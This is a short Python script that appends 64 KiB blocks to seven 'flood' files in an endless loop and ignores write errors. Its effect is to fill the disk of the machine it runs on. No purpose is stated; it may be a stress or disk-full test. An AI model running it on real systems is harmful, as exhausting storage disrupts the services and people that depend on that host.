chunk = b"x" * 65536
number = 0
while True:
    number += 1
    try:
        with open("flood%d" % (number % 7), "ab") as file:
            file.write(chunk)
    except OSError:
        pass
